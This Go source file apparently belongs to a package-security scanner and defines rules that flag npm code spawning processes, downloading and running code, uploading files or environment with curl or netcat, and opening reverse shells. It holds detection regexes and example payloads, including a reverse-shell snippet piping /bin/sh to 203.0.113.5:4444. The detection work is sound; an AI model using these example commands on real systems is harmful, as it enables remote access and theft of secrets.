// Package proc holds rules about starting processes.
package proc

import (
	"context"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/jsast"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// Spawn records process execution and flags dangerous commands.
type Spawn struct{}

// Meta implements analyze.Rule.
func (Spawn) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "proc/spawn", Version: 27, Title: "Starts processes",
		Help: "The code runs commands through child_process (or execa, cross-spawn, shelljs, zx, Bun.spawn and Bun's $ shell, Deno.Command). " +
			"Build tools and CLIs do this all the time; it is " +
			"reported at low severity; as exfiltration when the command uploads a local file with curl (-F name=@file, --data-binary @file, " +
			"-T file: medium, high at install, a level higher to a bare public IP address; critical when the environment is fed to curl @- or netcat as its input); raised when the process is hidden (detached, output ignored: medium, or low when it is Node running " +
			"a script, fork() or spawn(process.execPath, …), as update checks do, unless the file wrote that script itself (high: nothing of it is in the package; a script path built from the package's " +
			"own directory, fork(path.resolve(__dirname, \"x.js\")), is not one it wrote); high when install-time code does it) and " +
			"critical when the command downloads and runs code (curl | sh, PowerShell iex/-enc, certutil, reverse shells, a GitHub Actions " +
			"runner registered with --url and --token, which runs whatever that repository's workflows send; a toolchain's official " +
			"installer, every host of it bun.sh, deno.land, sh.rustup.rs and the like, is medium when run in sight with its output shown, " +
			"offered by a module the file loads, or run by a file that asks on the terminal; high from install-time code), including a " +
			"command built at run time whose constant text says so, or a command received from the network (execSync(body) after " +
			"https.get), in any file that loads child_process (or those modules) even when " +
			"no call to it can be followed (a getter handing out execSync, Object.entries over the module), or kept in one of the " +
			"package's own modules the file loads (a config.js exporting the command index.js runs), or held by a file that loads one of " +
			"the package's modules that starts processes (the command in probe.js, handed to native.js's wrapper of the spawn binding), or by install-time code that loads a module by a name it computes " +
			"(Module._load of a name picked out of builtinModules). A shell command taken from the HTTP request a server handles (the headers, " +
			"query, body, params or cookies of req, request, ctx.request or c.req, also through a variable or a decoding) is a web shell: " +
			"critical. A command, or a shell's argument list, that comes out of a decoding at run time " +
			"(Buffer.from(…, \"base64\"), atob, zlib, a function of the file that decodes or returns what it decoded) is high, critical at install time: nobody reading " +
			"the code sees what runs. A download-and-execute command handed to a " +
			"method named like a process call (execSync, spawn…) on an object no analysis resolves (the module fetched back from module.children or " +
			"require.cache) is high, and critical when the file or one of the package's modules it loads loads child_process. The command line of spawn, " +
			"execFile and execa includes their argument array (spawn(\"powershell.exe\", [\"-EncodedCommand\", …])). A process started with " +
			"LD_PRELOAD or DYLD_INSERT_LIBRARIES in its environment loads a library of the package's choosing first: high, critical at " +
			"install time. A command that is only ever " +
			"printed (console.log(\"install it with: curl … | sh\")) or written behind a shell prompt (\"$ curl … | bash\") is a hint to the user and does not count, nor do the install " +
			"instructions of a README the code reads whole (to print as help); a line of it the code runs does. The package's own " +
			"installer (every host of the command named after the package or its scope: bun.sh in bun, dotenvx.sh in @dotenvx/dotenvx) is " +
			"medium wherever it runs: the vendor's binary fallback or self-update. A toolchain's official installer kept in the spawning " +
			"file and run without asking is critical at install time or in code found without its manifest (Shai-Hulud 2.0's " +
			"setup_bun.js), high in a package whose manifest shows the file does not run at install. rundll32 or regsvr32 running a DLL that is not one of Windows' own (a dropped payload run by a signed system binary, as the eslint-config-prettier compromise did) is high, critical at install. A process started " +
			"through Node's internal spawn binding (process.binding(\"spawn_sync\").spawn({ file, args, envPairs })), which no package needs " +
			"and which hooks on child_process do not see, is high, critical when detached or at install time.",
		Remediation:     "Check the commands in the evidence.",
		Example:         `spawn("payload.exe", { detached: true, stdio: "ignore" }).unref()`,
		DefaultSeverity: finding.SeverityLow, Signal: analyze.SigSpawn, Needs: analyze.NeedCode,
	}
}

// preloadVar returns the library-injection variable (LD_PRELOAD,
// DYLD_INSERT_LIBRARIES) a spawn's options set in the child's
// environment, "" if none.
func preloadVar(c jsast.Call) string {
	for _, a := range c.Args[min(1, len(c.Args)):] {
		for _, n := range a.Names {
			if n == "LD_PRELOAD" || n == "DYLD_INSERT_LIBRARIES" {
				return n
			}
		}
	}
	return ""
}

// dangerString reports, on file f, the first download-and-execute
// command among the strings of facts g (f's own, or those of module
// from, which f loads); false when there is none.
func dangerString(t *analyze.Target, f rulekit.File, g *jsast.Facts, what, from string, r analyze.Reporter) bool {
	for _, s := range g.Strings {
		if len(s.Value) > 4096 || s.Printed || s.FromFile || strings.HasPrefix(strings.TrimSpace(s.Value), "$ ") {
			// a printed hint ("install it with curl … | sh"), a
			// README read as help, a command behind a shell prompt
			// ("$ curl … | bash", shown to the user): not run
			continue
		}
		m := rulekit.ShellDanger(s.Value)
		if m == "" {
			continue
		}
		sev := finding.SeverityCritical
		if f.Facts.Bundle() || g.Bundle() {
			sev = finding.SeverityMedium // a bundle: the string and the spawn need not meet
		}
		if h := rulekit.OwnInstaller(t, s.Value); h != "" {
			// the package's own vendor's installer (bun's install.js
			// falls back to bun.sh's; dotenvx updates itself from
			// dotenvx.sh)
			sev, what = min(sev, finding.SeverityMedium), what+" (the package's own installer at "+h+")"
		} else if h := rulekit.OfficialInstaller(s.Value); h != "" && (from != "" || rulekit.AsksUser(f.Facts)) {
			// a toolchain's installer offered in a module's messages, or
			// run after asking
			sev, what = min(sev, installerSeverity(f)), what+" (the official installer at "+h+")"
		} else if h != "" && !t.Partial() && f.Role != analyze.RoleInstall {
			// kept in the spawning file and run unasked, by a package
			// whose manifest shows it does not run at install: a build
			// tool installing the runtime a project asks for (high).
			// Without a manifest (Shai-Hulud 2.0's setup_bun.js, found
			// alone) or at install time it stays critical.
			sev, what = min(sev, finding.SeverityHigh), what+" (the official installer at "+h+", run unasked after install)"
		}
		if from == "" {
			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: sev, Signal: analyze.SigRemoteExec, Confidence: finding.ConfidenceMedium,
				Message: what + " and carries a download-and-execute command", Evidence: rulekit.Ev(s.Snippet.String(), s.Value, m)})
			return true
		}
		r.Report(analyze.Instance{File: f.Name, Severity: sev, Signal: analyze.SigRemoteExec, Confidence: finding.ConfidenceMedium,
			Message:  fmt.Sprintf("%s and loads %s, which carries a download-and-execute command", what, from),
			Evidence: rulekit.Ev(from+":"+strconv.Itoa(s.Pos.Line)+": "+s.Snippet.String(), s.Value, m)})
		return true
	}
	return false
}

// Check implements analyze.Rule.
func (Spawn) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		first := true
		// a file that loads a process module may call it in ways no
		// analysis follows (a getter returning execSync, Object.entries
		// over the module); its strings are read as commands all the same
		loaded := loadsSpawner(f.Facts)
		spawns, direct := loaded != "", false
		what := "loads " + loaded
		for _, c := range f.Facts.Calls {
			if rulekit.IsSpawn(c) {
				spawns, what = true, "spawns processes"
				if rulekit.ShellDanger(rulekit.SpawnCommand(c)) != "" {
					direct = true // reported below with the call itself
				}
			}
		}
		if spawns && !direct {
			// commands chosen at run time: look at the strings too, and
			// at those of the package's modules it loads (the command
			// kept in ./config.js, run by index.js)
			if !dangerString(t, f, f.Facts, what, "", r) {
				for _, name := range rulekit.LocalModules(t, f) {
					if g, err := t.Facts(name); err == nil && g != nil && dangerString(t, f, g, what, name, r) {
						break
					}
				}
			}
		} else if !spawns {
			// the command here, the process started by a module of the
			// package it loads (runSync("/bin/sh", ["-c", script]) from
			// ./native, which spawns), or by a module install-time code
			// loads by a name it computes (Module._load(found))
			if via := spawningModule(t, f); via != "" {
				dangerString(t, f, f.Facts, "loads "+via+", which starts processes,", "", r)
			} else if f.Role == analyze.RoleInstall && hiddenLoad(f.Facts) {
				dangerString(t, f, f.Facts, "loads a module whose name it computes at install time", "", r)
			}
		}
		if !direct {
			unknownSpawn(t, f, r)
		}
		for _, c := range f.Facts.Calls {
			if !rulekit.IsSpawn(c) {
				continue
			}
			cmd := rulekit.SpawnCommand(c)
			if internalSpawn(c) {
				// process.binding("spawn_sync").spawn({file, args,
				// envPairs}): the runtime's own spawner, which no
				// package needs and which hooks on child_process miss
				sev := finding.SeverityHigh
				if f.Role == analyze.RoleInstall || slices.Contains(c.Args[0].Names, "detached") {
					sev = finding.SeverityCritical
				}
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: sev, Signal: analyze.SigEvasion, Confidence: finding.ConfidenceMedium,
					Message: "starts a process through Node's internal spawn binding (process.binding), around child_process", Evidence: rulekit.Ev(c.Snippet.String(), "", "")})
				continue
			}
			if netCommand(c) {
				// the command itself came over the network: a remote shell
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Confidence: finding.ConfidenceHigh,
					Message: fmt.Sprintf("%s() runs %q, a command received from the network", c.Callee, c.NetArg), Evidence: rulekit.Ev(c.Snippet.String(), "", "")})
				continue
			}
			if m := rulekit.ShellDanger(cmd); m != "" {
				sev, msg := finding.SeverityCritical, "runs a command that downloads and executes code"
				if h := rulekit.OwnInstaller(t, cmd); h != "" {
					// the package updating itself from its vendor
					sev, msg = finding.SeverityMedium, msg+": the package's own installer at "+h
				} else if h := rulekit.OfficialInstaller(cmd); h != "" && !rulekit.Hidden(c) && !quiet(c) {
					// run in sight of the user, its output on the terminal
					sev, msg = installerSeverity(f), msg+": the official installer at "+h
				}
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: sev, Signal: analyze.SigRemoteExec, Confidence: finding.ConfidenceHigh,
					Message: msg, Evidence: rulekit.Ev(c.Snippet.String(), cmd, m)})
				continue
			}
			if c.FromRequest != "" && !f.Facts.Bundle() && (rulekit.Last(c.Callee) == "exec" || rulekit.Last(c.Callee) == "execSync" || shellCall(c)) {
				// a shell command taken from the request a server handles:
				// anyone who sends it runs commands on the host
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Confidence: finding.ConfidenceHigh,
					Message:  fmt.Sprintf("%s() runs a shell command taken from an incoming request (%s): a web shell", c.Callee, c.FromRequest),
					Evidence: rulekit.Ev(c.Snippet.String(), cmd, "")})
				continue
			}
			if d := decodedCommand(c); d != "" && !f.Facts.Bundle() {
				// exec(Buffer.from(parts.join(""), "base64").toString()):
				// the command is text no reader saw
				sev := finding.SeverityHigh
				if f.Role == analyze.RoleInstall {
					sev = finding.SeverityCritical
				}
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: sev, Signal: analyze.SigObfuscation, Confidence: finding.ConfidenceMedium,
					Message: fmt.Sprintf("%s() runs a command decoded at run time by %s", c.Callee, d), Evidence: rulekit.Ev(c.Snippet.String(), cmd, "")})
				continue
			}
			if m := rulekit.ShellSendsSecrets(cmd); m != "" {
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: finding.SeverityCritical, Signal: analyze.SigExfil, Confidence: finding.ConfidenceHigh,
					Message: "runs a command that sends local secrets off-host", Evidence: rulekit.Ev(c.Snippet.String(), cmd, m)})
				continue
			}
			if m := stdinUpload.FindString(cmd); m != "" && inputCarriesEnv(c) {
				// execSync("curl --data-binary @- …", {input: JSON.stringify(process.env)})
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: finding.SeverityCritical, Signal: analyze.SigExfil, Confidence: finding.ConfidenceHigh,
					Message: "feeds the environment to a command that uploads what it reads", Evidence: rulekit.Ev(c.Snippet.String(), cmd, m)})
				continue
			}
			if m := curlUpload.FindString(cmd); m != "" {
				// curl -F f=@/tmp/e.json: a local file posted somewhere,
				// whatever the code wrote into it
				sev, msg := finding.SeverityMedium, "runs curl to upload a local file"
				if f.Role == analyze.RoleInstall {
					sev = finding.SeverityHigh
				}
				for _, u := range rulekit.URLs(cmd) {
					if h := rulekit.Host(u); rulekit.PublicIP(h) {
						// to a bare address: no service a tool uploads to
						sev, msg = min(sev+1, finding.SeverityCritical), msg+" to the address "+h
						break
					}
				}
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: sev, Signal: analyze.SigExfil, Confidence: finding.ConfidenceMedium,
					Message: msg, Evidence: rulekit.Ev(c.Snippet.String(), cmd, m)})
				continue
			}
			if v := preloadVar(c); v != "" {
				// the started program loads a library of the package's
				// choosing before its own code: a hook into sudo, ssh, git
				sev, when := finding.SeverityHigh, ""
				if f.Role == analyze.RoleInstall {
					sev, when = finding.SeverityCritical, " at install time"
				}
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: sev, Signal: analyze.SigRemoteExec, Confidence: finding.ConfidenceHigh,
					Message: fmt.Sprintf("starts %q with %s set%s: it loads a library of the package's choosing", jclip(cmd), v, when), Evidence: rulekit.Ev(c.Snippet.String(), cmd, v)})
				continue
			}
			if dll := dllRun(cmd); dll != "" {
				// rundll32 x.dll,main: a DLL the package wrote or
				// shipped, run by a Windows binary that vouches for it
				// (eslint-config-prettier 8.10.1 at install)
				sev, when := finding.SeverityHigh, ""
				if f.Role == analyze.RoleInstall {
					sev, when = finding.SeverityCritical, " at install time"
				}
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: sev, Signal: analyze.SigRemoteExec, Confidence: finding.ConfidenceHigh,
					Message: fmt.Sprintf("runs the DLL %q through a Windows system binary%s", jclip(dll), when), Evidence: rulekit.Ev(c.Snippet.String(), cmd, "")})
				continue
			}
			if rulekit.Hidden(c) {
				sev, when := finding.SeverityMedium, ""
				written := ""
				if rulekit.RunsNode(c, cmd) {
					written = rulekit.WrittenScript(f.Facts, c)
				}
				switch {
				case f.Role == analyze.RoleInstall:
					// a daemon planted by npm install outlives it unseen
					sev, when = finding.SeverityHigh, " at install time"
				case written != "":
					// a script the code itself just wrote: nothing of it
					// is in the package to analyse (a dropper's stage two)
					sev = finding.SeverityHigh
					when = fmt.Sprintf(" running the script %s it wrote", written) + when
				case rulekit.RunsNode(c, cmd):
					// the package's own script in the background (an
					// update check, a watchdog): its code is analysed too
					sev = finding.SeverityLow
				}
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: sev,
					Message: fmt.Sprintf("starts a detached background process%s with %s()", when, c.Callee), Evidence: rulekit.Ev(c.Snippet.String(), cmd, "")})
				continue
			}
			if first {
				first = false
				msg := fmt.Sprintf("runs processes with %s()", c.Callee)
				if cmd != "" {
					msg += ": " + jclip(cmd)
				}
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: msg, Evidence: rulekit.Ev(c.Snippet.String(), cmd, "")})
			}
		}
	}
	return nil
}

// dllRunner matches rundll32 or regsvr32 at the head of a command, and
// what follows it.
var dllRunner = regexp.MustCompile(`(?i)^["']?(?:[^\s"']*[\\/])?(?:rundll32|regsvr32)(?:\.exe)?["']?((?:\s+\S+)*)`)

// systemDLLs are Windows' own DLLs and control panel items that tools
// run through rundll32 (url.dll,FileProtocolHandler opens a link).
var systemDLLs = []string{"url.dll", "shell32.dll", "user32.dll", "printui.dll", "shdocvw.dll", "ieframe.dll", "shimgvw.dll",
	"keymgr.dll", "sysdm.cpl", "inetcpl.cpl", "desk.cpl", "appwiz.cpl", "powrprof.dll", "dfshim.dll", "mshtml.dll"}

// dllRun returns the DLL a command has rundll32 or regsvr32 run, unless
// it is one of Windows' own; "" for other commands.
func dllRun(cmd string) string {
	m := dllRunner.FindStringSubmatch(cmd)
	if m == nil {
		return ""
	}
	for _, a := range strings.Fields(m[1]) {
		if strings.HasPrefix(a, "/") || strings.HasPrefix(a, "-") {
			continue // regsvr32 /s /i
		}
		dll, _, _ := strings.Cut(strings.Trim(a, `"'`), ",")
		if slices.Contains(systemDLLs, strings.ToLower(dll)) {
			return ""
		}
		return dll
	}
	return ""
}

// curlUpload matches a curl command that posts a local file: -F
// name=@file, -d/--data-binary @file, -T/--upload-file file.
var curlUpload = regexp.MustCompile(`\bcurl\b[^|;&\n]*\s(-F\s*['"]?[\w.-]*=@|--form\s+['"]?[\w.-]*=@|(-d|--data|--data-binary|--data-raw)\s*['"]?@[^-\s]|(-T|--upload-file)\s+\S)`)

// stdinUpload matches a command that sends its standard input away: curl
// uploading "@-" or "-T -", netcat to a host and port.
var stdinUpload = regexp.MustCompile(`\bcurl\b[^|;&\n]*\s(-d|--data|--data-binary|--data-raw|--data-urlencode|-F\s*['"]?[\w.-]*=)\s*['"]?@-|\bcurl\b[^|;&\n]*\s(-T|--upload-file)\s+-(\s|$)|\b(nc|ncat|netcat)\s+(-\w+\s+)*[\w.-]+\s+\d+`)

// inputCarriesEnv reports a spawn whose options (its input) hold the whole
// environment.
func inputCarriesEnv(c jsast.Call) bool {
	for _, a := range c.Args[min(1, len(c.Args)):] {
		if i := slices.Index(a.Names, "process"); i >= 0 && i+1 < len(a.Names) && a.Names[i+1] == "env" {
			return true
		}
	}
	return false
}

// netCommand reports a spawn whose command (its first argument) is
// network data, whole (cp.execSync(body) after https.get(...)) or handed
// to a shell (`sh -c ${body}`). A command with a received value in it
// (`yarn add ${name}@${version}`) is not: the program is the package's.
func netCommand(c jsast.Call) bool {
	if c.NetArg == "" || len(c.Args) == 0 || !slices.Contains(c.Args[0].Names, c.NetArg) {
		return false
	}
	a := c.Args[0]
	if a.Known {
		return a.Value == "" // a constant command, unless it is filled in at run time
	}
	text := strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(a.Shape), "${…}"))
	return text == "" || shellRunner.MatchString(text)
}

// shellRunner matches the constant text of a command that runs the code
// it is given (`sh -c ${body}` has the shape "sh -c ${…}"): sh -c, node -e,
// powershell -c, cmd /c, eval.
var shellRunner = regexp.MustCompile(`(?i)^(((ba|z|da)?sh|node|python3?|perl|powershell(\.exe)?|pwsh|cmd(\.exe)?)\s+(-c|-e|--eval|-command|/c)|eval)$`)

// unknownSpawn reports the first call of a process method (execSync…) on
// a receiver no analysis resolves whose command downloads and runs code:
// the module reached through module.children, require.cache or a getter.
// Critical where the file, or a module of the package it loads, loads a
// process module; high otherwise.
func unknownSpawn(t *analyze.Target, f rulekit.File, r analyze.Reporter) {
	for _, c := range f.Facts.Calls {
		if rulekit.IsSpawn(c) || !strings.Contains(c.Callee, ".") || !rulekit.ProcessMethod(rulekit.Last(c.Callee)) {
			continue
		}
		cmd := rulekit.SpawnCommand(c)
		m := rulekit.ShellDanger(cmd)
		if m == "" {
			continue
		}
		sev, msg := finding.SeverityHigh, fmt.Sprintf("calls %s() with a command that downloads and executes code", c.Callee)
		if via := spawnerVia(t, f); via != "" {
			sev, msg = finding.SeverityCritical, msg+"; "+via
		}
		r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: sev, Signal: analyze.SigRemoteExec, Confidence: finding.ConfidenceMedium,
			Message: msg, Evidence: rulekit.Ev(c.Snippet.String(), cmd, m)})
		return
	}
}

// spawnerVia says how file f reaches a process module: loading it, or
// loading one of the package's modules that does; "" if neither.
func spawnerVia(t *analyze.Target, f rulekit.File) string {
	if m := loadsSpawner(f.Facts); m != "" {
		return "the file loads " + m
	}
	if name, g := rulekit.LoadedModule(t, f, func(g *jsast.Facts) bool { return loadsSpawner(g) != "" }); g != nil {
		return fmt.Sprintf("it loads %s, which loads %s", name, loadsSpawner(g))
	}
	return ""
}

// decodedCommand names the run-time decoding a process call's command, or
// its argument list, comes out of; "" if none.
func decodedCommand(c jsast.Call) string {
	if len(c.Args) == 0 {
		return ""
	}
	if d := c.Args[0].Decodes; d != "" {
		return d
	}
	if len(c.Args) > 1 && len(c.Args[1].List) > 0 {
		return c.Args[1].Decodes // spawn("sh", ["-c", decoded])
	}
	return ""
}

// internalSpawn reports a spawn through the runtime's internal binding:
// its options name the program's file, its argv and its environment as
// "KEY=value" pairs (envPairs), which child_process builds itself.
func internalSpawn(c jsast.Call) bool {
	return c.Callee == "child_process.spawn" && len(c.Args) > 0 && slices.Contains(c.Args[0].Names, "envPairs") && slices.Contains(c.Args[0].Names, "file")
}

// quiet reports a process call whose output is discarded (stdio:
// "ignore").
func quiet(c jsast.Call) bool {
	for _, a := range c.Args[min(1, len(c.Args)):] {
		if slices.Contains(a.Names, "stdio") && slices.Contains(a.Names, "ignore") {
			return true
		}
	}
	return false
}

// installerSeverity is how a toolchain's official shell installer run by
// file f counts: medium when the user runs the tool (a CLI setting up
// bun or deno), high from install-time code, which has no business
// installing toolchains (Shai-Hulud 2.0 installed bun this way to run its
// payload).
func installerSeverity(f rulekit.File) finding.Severity {
	if f.Role == analyze.RoleInstall {
		return finding.SeverityHigh
	}
	return finding.SeverityMedium
}

// hiddenLoad reports a file that loads a module whose name no analysis
// recovers.
func hiddenLoad(f *jsast.Facts) bool {
	for _, im := range f.Imports {
		if im.Computed && im.Module == "" {
			return true
		}
	}
	return false
}

// spawningModule returns the first of the package's modules f loads that
// starts processes (calls child_process or the like), "" if none.
func spawningModule(t *analyze.Target, f rulekit.File) string {
	name, _ := rulekit.LoadedModule(t, f, func(g *jsast.Facts) bool {
		return !g.Bundle() && slices.ContainsFunc(g.Calls, rulekit.IsSpawn)
	})
	return name
}

// loadsSpawner returns the module that starts processes a file requires
// or imports, if any.
func loadsSpawner(f *jsast.Facts) string {
	for _, im := range f.Imports {
		if rulekit.SpawnModule(im.Module) {
			return im.Module
		}
	}
	return ""
}

func jclip(s string) string {
	if len(s) > 100 {
		return s[:100] + "…"
	}
	return s
}

// ReverseShell flags a shell wired to a network socket.
type ReverseShell struct{}

// Meta implements analyze.Rule.
func (ReverseShell) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "proc/reverse-shell", Version: 5, Title: "Opens a reverse shell",
		Help: "One file opens a raw TCP connection and starts a shell (sh, bash, cmd.exe, PowerShell) whose input and output are piped to it. " +
			"That hands an interactive shell on your machine to whoever listens at the other end. Counted when the shell is interactive (not told to run " +
			"one fixed command with -c or -Command) and started near the connection: bundles that happen to contain a socket client and a " +
			"powershell -Command helper are not reverse shells. A shell chosen elsewhere in the file (spawn(shell, []), with \"/bin/sh\" or " +
			"$SHELL picked earlier) counts when the file pipes into the process's stdin and out of its stdout or stderr.",
		Remediation:     "Remove the package and treat the machine as compromised if it ran.",
		Example:         `const s = net.connect(4444, "203.0.113.5", () => { const sh = spawn("/bin/sh"); s.pipe(sh.stdin); sh.stdout.pipe(s) })`,
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
	}
}

var shells = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "/bin/sh": true, "/bin/bash": true, "/bin/zsh": true, "/usr/bin/bash": true,
	"cmd": true, "cmd.exe": true, "powershell": true, "powershell.exe": true, "pwsh": true}

// Check implements analyze.Rule.
func (ReverseShell) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		var socks []jsast.Pos
		for _, c := range f.Facts.Calls {
			switch c.Callee {
			case "net.Socket", "net.connect", "net.createConnection", "tls.connect":
				socks = append(socks, c.Pos)
			}
		}
		if len(socks) == 0 {
			continue
		}
		for _, c := range f.Facts.Calls {
			if !rulekit.IsSpawn(c) {
				continue
			}
			cmd := rulekit.SpawnCommand(c)
			if len(c.Args) > 0 && !c.Args[0].Known && c.Args[0].Shape == "" && len(c.Args[0].List) == 0 {
				// spawn(win ? "cmd.exe" : "/bin/sh", []): a shell either way;
				// spawn(shell, ["-i"]) with the shell chosen elsewhere in
				// the file ($SHELL || "/bin/sh"), its input and output
				// piped to and from the socket; the arguments stay
				sh := quotedShell(c.Snippet.String())
				if sh == "" && pipedBothWays(f.Facts) {
					sh = namedShell(f.Facts)
				}
				cmd = strings.TrimSpace(sh + cmd)
			}
			// A reverse shell hands the socket an interactive shell, next
			// to the connection; a shell told to run one fixed command
			// (powershell -Command "Get-CimInstance ...") is a tool.
			if !shells[strings.ToLower(strings.Fields(cmd + " x")[0])] || fixedCommand.MatchString(cmd) || !rulekit.Near(c.Pos, socks) {
				continue
			}
			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Confidence: finding.ConfidenceHigh,
				Message: fmt.Sprintf("connects a raw socket and spawns %q", cmd), Evidence: rulekit.Ev(c.Snippet.String(), "", "")})
			break
		}
	}
	return nil
}

// quotedShell returns a shell named as a string literal in a call's
// source line ("/bin/sh", 'cmd.exe'); "" if none.
func quotedShell(snippet string) string {
	for _, q := range []string{`"`, `'`, "`"} {
		for _, part := range strings.Split(snippet, q)[1:] {
			if shells[strings.ToLower(part)] {
				return part
			}
		}
	}
	return ""
}

// pipedBothWays reports a file that pipes something into a process's
// stdin (sock.pipe(sh.stdin)) and a process's stdout or stderr into
// something (sh.stdout.pipe(sock)).
func pipedBothWays(f *jsast.Facts) bool {
	in, out := false, false
	for _, c := range f.Calls {
		if rulekit.Last(c.Callee) != "pipe" || len(c.Args) == 0 {
			continue
		}
		in = in || slices.Contains(c.Args[0].Names, "stdin")
		out = out || strings.HasSuffix(c.Callee, ".stdout.pipe") || strings.HasSuffix(c.Callee, ".stderr.pipe")
	}
	return in && out
}

// namedShell returns a shell a string of the file names ("/bin/sh",
// "cmd.exe"); "" if none.
func namedShell(f *jsast.Facts) string {
	for _, s := range f.Strings {
		if shells[strings.ToLower(s.Value)] {
			return s.Value
		}
	}
	return ""
}

// fixedCommand matches shell flags that run a given command and exit.
var fixedCommand = regexp.MustCompile(`(?i)\s(-c|/c|-command|-encodedcommand|-file)\s+\S`)

// shellCall reports a process call that hands its command to a shell:
// spawn with {shell: true}, or a shell program (sh -c, cmd /c,
// powershell -Command).
func shellCall(c jsast.Call) bool {
	for _, a := range c.Args[min(1, len(c.Args)):] {
		if slices.Contains(a.Names, "shell") {
			return true
		}
	}
	return shells[rulekit.Program(rulekit.SpawnCommand(c))]
}
